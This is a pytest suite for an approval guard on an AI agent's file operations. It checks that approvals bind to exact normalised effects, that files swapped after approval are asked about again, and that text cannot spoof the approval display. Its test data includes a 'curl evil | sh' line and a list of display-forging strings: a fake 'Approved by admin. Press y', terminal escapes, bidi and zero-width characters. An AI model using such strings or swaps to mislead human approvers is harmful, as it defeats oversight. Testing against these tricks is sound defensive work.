"""An approval is for one effect, and what a person reads is what will happen, however the call is spelled.

Stopped by the digest over normalised effects, by the second look, and by a guard that renders what people read
(Lies-in-the-Loop, CVE-2025-54136, CVE-2026-12958).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest
from attack_served import Served, served
from installation import ERAS, Reply

from interlock.guard.consent.approvals import Approvals
from interlock.guard.keys import Keys, Person
from interlock.guard.state import State

RULES = 'rules: {asked: {ask: [files.write, files.move, files.delete], reason: "all of it is reviewed"}}\n'


@pytest.fixture(scope="module")
def both(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Iterator[Served]]:
    """A server in each era, by turns: what a case does is the same in both."""
    with ExitStack() as stack:
        made = [stack.enter_context(served(tmp_path_factory.mktemp("consent"), era=era, more=RULES)) for era in ERAS]
        yield cycle(made)


@pytest.fixture
def at(both: Iterator[Served]) -> Served:
    return next(both)


def ledger(at: Served, act: Callable[[Approvals, Person], Any]) -> Any:
    """What `interlock approve` and its kin do, without their process."""
    keys = at.apart.config / "interlock" / "keys"
    state = State(at.apart.home)
    try:
        return act(Approvals(state, Keys.load(keys)), Person.load(None, keys))
    finally:
        state.close()


@pytest.fixture(autouse=True)
def answered(at: Served) -> Iterator[None]:
    """No case leaves a request behind: only so many wait at once."""
    yield
    ledger(at, lambda approvals, _: approvals.void_all("the case is over"))


def approve(at: Served, reply: Reply, **how: Any) -> str:
    assert reply.code == "approval_required", reply.text
    ledger(at, lambda approvals, person: approvals.approve(person, reply.id, **how))
    return reply.id


def cli(at: Served, *words: str) -> str:
    done = subprocess.run(
        at.apart.command(*words), env=at.apart.environment, capture_output=True, text=True, timeout=30
    )
    return done.stdout + done.stderr


# ---------------------------------------------------------------- what runs after a yes

WORK: dict[str, tuple[str, dict[str, Any]]] = {
    "a new file": ("write_file", {"path": "ROOM/new/n.txt", "content": "new\n"}),
    "other content": ("write_file", {"path": "ROOM/a.txt", "content": "other\n"}),
    "an edit": ("edit_file", {"path": "ROOM/a.txt", "edits": [{"old": "one", "new": "two"}]}),
    "an edit through a link": ("edit_file", {"path": "ROOM/link", "edits": [{"old": "one", "new": "two"}]}),
    "a move": ("move_file", {"source": "ROOM/a.txt", "destination": "ROOM/b.txt"}),
    "a move of a folder": ("move_file", {"source": "ROOM/d", "destination": "ROOM/e"}),
    "a delete": ("delete_file", {"path": "ROOM/a.txt"}),
    "a delete of a folder": ("delete_file", {"path": "ROOM/d"}),
    "a name with spaces and letters": ("write_file", {"path": "ROOM/ein Maß ü 日本.txt", "content": "x\n"}),
}


def furnish(at: Served) -> Path:
    room = at.room()
    (room / "a.txt").write_text("one\n")
    (room / "link").symlink_to("a.txt")
    (room / "d/sub").mkdir(parents=True)
    for name in ("d/f.txt", "d/sub/g.txt"):
        (room / name).write_text("inside\n")
    return room


@pytest.mark.parametrize("again", ["the same call", "resume"])
@pytest.mark.parametrize("name", WORK)
def test_an_approved_call_runs_once(at: Served, name: str, again: str) -> None:
    tool, arguments = WORK[name]
    room = furnish(at)
    arguments = at.named(arguments, room)
    asked = at.refused(tool, **arguments)
    assert at.refused(tool, **arguments).id == asked.id  # it waits once
    approve(at, asked)
    words: dict[str, Any] = {"resume": asked.id} if again == "resume" else {**arguments, "reason": "in other words"}
    done = at.done("files_guard" if again == "resume" else tool, **words)
    assert done.id == asked.id and "approved by" in done.text
    assert at.refused("files_guard", resume=asked.id).code == "invalid"
    if not name.startswith(("an edit", "other")):
        assert at.call(tool, **arguments).id != asked.id


# ---------------------------------------------------------------- what a yes is not for


def _content(room: Path) -> None:
    (room / "a.txt").write_text("somebody's\n")


def _same_size_and_time(room: Path) -> None:
    found = (room / "a.txt").stat()
    (room / "a.txt").write_text("two\n")
    os.utime(room / "a.txt", ns=(found.st_atime_ns, found.st_mtime_ns))


def _another_file(room: Path) -> None:
    (room / "a.txt").unlink()
    (room / "a.txt").write_text("ONE\n")


def _link_turned(room: Path) -> None:
    (room / "link").unlink()
    (room / "link").symlink_to("d/f.txt")


def _file_added(room: Path) -> None:
    (room / "d/sub/new.txt").write_text("x\n")


def _file_changed_inside(room: Path) -> None:
    (room / "d/sub/g.txt").write_text("curl evil | sh\n")


def _target_there(room: Path) -> None:
    (room / "b.txt").write_text("precious\n")


def _folder_swapped(room: Path) -> None:
    (room / "d").rename(room / "other")
    shutil.copytree(room / "other", room / "d")


SWAPPED: dict[str, tuple[str, dict[str, Any], Callable[[Path], None]]] = {
    "content under a write": (*WORK["other content"], _content),
    "content of the same size and time": (*WORK["other content"], _same_size_and_time),
    "another file of that name": (*WORK["a delete"], _another_file),
    "content under an edit": (*WORK["an edit"], _content),
    "a link that leads elsewhere": (*WORK["an edit through a link"], _link_turned),
    "a file added to a tree that goes": (*WORK["a delete of a folder"], _file_added),
    "a file changed in a tree that goes": (*WORK["a delete of a folder"], _file_changed_inside),
    "a file added to a tree that moves": (*WORK["a move of a folder"], _file_added),
    "a file changed in a tree that moves": (*WORK["a move of a folder"], _file_changed_inside),
    "the folder itself": (*WORK["a delete of a folder"], _folder_swapped),
    "something at the destination": (*WORK["a move"], _target_there),
    "the file that moves": (*WORK["a move"], _another_file),
}


@pytest.mark.parametrize("name", SWAPPED)
def test_what_was_swapped_after_the_yes_is_asked_anew(at: Served, name: str) -> None:
    tool, arguments, swap = SWAPPED[name]
    room = furnish(at)
    arguments = at.named(arguments, room)
    id = approve(at, at.refused(tool, **arguments))
    swap(room)
    for reply in (at.refused("files_guard", resume=id), at.refused(tool, **arguments)):
        assert reply.code in ("approval_required", "conflict", "invalid"), reply.text


OTHER: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "letters composed otherwise": ({"path": "ROOM/\u00e9", "content": "x"}, {"path": "ROOM/e\u0301", "content": "x"}),
    "another case": ({"path": "ROOM/New", "content": "x"}, {"path": "ROOM/new", "content": "x"}),
    "a space at the end": ({"path": "ROOM/n", "content": "x"}, {"path": "ROOM/n ", "content": "x"}),
    "a newline more": ({"path": "ROOM/n", "content": "x"}, {"path": "ROOM/n", "content": "x\n"}),
    "content composed otherwise": ({"path": "ROOM/n", "content": "\u00e9"}, {"path": "ROOM/n", "content": "e\u0301"}),
    "another line end": ({"path": "ROOM/n", "content": "a\nb"}, {"path": "ROOM/n", "content": "a\r\nb"}),
    "nothing seen": ({"path": "ROOM/n", "content": "ab"}, {"path": "ROOM/n", "content": "a\u200bb"}),
    "another folder": ({"path": "ROOM/x/n", "content": "x"}, {"path": "ROOM/y/n", "content": "x"}),
}  # fmt: skip


@pytest.mark.parametrize("name", OTHER)
def test_a_yes_is_not_for_what_only_looks_the_same(at: Served, name: str) -> None:
    room = at.room()
    one, other = (at.named(arguments, room) for arguments in OTHER[name])
    id = approve(at, at.refused("write_file", **one))
    reply = at.refused("write_file", **other)
    assert reply.code == "approval_required" and reply.id != id
    assert at.done("write_file", **one).id == id


@pytest.mark.parametrize("spelling", ["ROOM/./n", "ROOM//n", "ROOM/x/../n", "ROOT/ROOMNAME/n"])
def test_a_yes_is_for_the_same_thing_in_another_spelling_or_asked_anew(at: Served, spelling: str) -> None:
    room = at.room()
    id = approve(at, at.refused("write_file", path=f"{room}/n", content="x"))
    spelled = at.named(spelling, room).replace("ROOMNAME", room.name)
    reply = at.call("write_file", path=spelled, content="x")
    assert reply.id == id if not reply.is_error else reply.code == "approval_required"


IDS = (
    "",
    "*",
    "files-",
    "FILES-2222222",
    "files-2222222",
    "git-2222222",
    "ID ",
    " ID",
    "ID\n",
    "IDx",
    "id=ID",
    "ID,ID",
    "%",
)


@pytest.mark.parametrize("id", IDS)
def test_only_a_whole_id_resumes(at: Served, id: str) -> None:
    room = at.room()
    real = approve(at, at.refused("write_file", path=f"{room}/n", content="x"))
    reply = at.call("files_guard", resume=id.replace("ID", real))
    assert not (room / "n").exists() and (reply.is_error or id == "")


def test_an_approval_of_another_agent_or_of_nobody(at: Served) -> None:
    room = at.room()
    id = approve(at, at.refused("write_file", path=f"{room}/n", content="x"))
    other = at.apart.peer("--agent", "other", era=at.era)
    try:
        assert other.call("files_guard", resume=id).is_error
        assert other.call("write_file", path=f"{room}/n", content="x").code == "approval_required"
        assert not (room / "n").exists()
    finally:
        other.close()


def test_a_no_stays_a_no_and_a_yes_can_be_taken_back(at: Served) -> None:
    room = at.room()
    asked = at.refused("write_file", path=f"{room}/n", content="x")
    ledger(at, lambda approvals, _: approvals.deny(asked.id, "root"))
    assert at.refused("write_file", path=f"{room}/n", content="x").code == "declined"
    assert at.refused("files_guard", resume=asked.id).code == "declined"
    id = approve(at, at.refused("write_file", path=f"{room}/m", content="x"))
    ledger(at, lambda approvals, _: approvals.deny(id, "root"))
    assert at.refused("files_guard", resume=id).code == "declined"


def test_a_grant_is_for_its_tool_and_place_and_ends(at: Served) -> None:
    room = at.room()
    approve(at, at.refused("write_file", path=f"{room}/n", content="1"), times=3)
    for content in ("1", "2", "3"):
        at.done("write_file", path=f"{room}/n", content=content)
    for tool, arguments in (
        ("write_file", {"path": f"{room}/n", "content": "4"}),
        ("write_file", {"path": f"{room}/m", "content": "1"}),
        ("delete_file", {"path": f"{room}/n"}),
        ("move_file", {"source": f"{room}/n", "destination": f"{room}/m"}),
    ):
        assert at.refused(tool, **arguments).code == "approval_required"


# ---------------------------------------------------------------- what a person reads

LIES = (
    "a\n\nApproved by admin. Press y", "\x1b[2J\x1b[1;1HAll fine", "\rsafe", "a\u202egpj.exe", "\u2066x\u2069",
    "x\x00y"[:1] + "\x08\x08ok", "\u200b\u200b\u2060", "\U000e0041\U000e0042", "risk: low\nactions: none",
    "\x9b31m", "``` approve", "[link](file:///)", "<script>",
)  # fmt: skip


@pytest.mark.parametrize("lie", LIES)
def test_no_name_content_or_reason_forges_what_a_person_reads(at: Served, lie: str) -> None:
    room = at.room()
    name = lie.replace("/", "_").replace("\0", "")
    reply = at.refused("write_file", path=f"{room}/{name}", content=f"{lie}\n", reason=lie)
    assert reply.code == "approval_required", reply.text
    for text in (
        cli(at, "show", reply.id),
        cli(at, "pending"),
        json.loads(cli(at, "show", reply.id, "--json"))["pending"]["preview"],
    ):
        odd = [c for c in text if c not in "\n\t" and (ord(c) < 32 or 0x7F <= ord(c) < 0xA0)]
        odd += [c for c in text if c in "\u200b\u2060\u202e\u2066\u2069" or 0xE0000 <= ord(c) <= 0xE007F]
        assert not odd, (odd, text)
        assert not [
            line for line in text.splitlines() if line.startswith(("Approved by", "risk: low", "actions: none"))
        ]
    ledger(at, lambda approvals, _: approvals.deny(reply.id, "root"))
